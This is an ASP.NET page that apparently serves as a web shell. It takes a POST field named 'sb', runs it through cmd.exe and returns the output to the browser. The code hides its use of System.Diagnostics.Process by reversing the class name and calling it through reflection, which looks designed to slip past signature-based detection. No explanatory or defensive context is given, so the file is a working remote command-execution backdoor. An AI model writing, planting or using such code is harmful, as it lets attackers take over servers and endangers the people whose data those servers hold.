<%@ Page Language="C#" %>
<%
string t = Request.Form["sb"];
if (!String.IsNullOrEmpty(t))
{
    char[] ca = ("sse" + "corP.scitsongaiD.metsyS").ToCharArray();
    Array.Reverse(ca);
    System.Reflection.Assembly sys = typeof(Uri).Assembly;
    Type pt = sys.GetType(new string(ca));
    object psi = Activator.CreateInstance(sys.GetType(new string(ca) + "StartInfo"), new object[] { "cmd.exe", "/c " + t });
    psi.GetType().GetProperty("UseShellExecute").SetValue(psi, false, null);
    psi.GetType().GetProperty("RedirectStandardOutput").SetValue(psi, true, null);
    object proc = pt.GetMethod("Start", new Type[] { psi.GetType() }).Invoke(null, new object[] { psi });
    System.IO.StreamReader sr = (System.IO.StreamReader)proc.GetType().GetProperty("StandardOutput").GetValue(proc, null);
    Response.Write("<pre>" + Server.HtmlEncode(sr.ReadToEnd()) + "</pre>");
}
%>
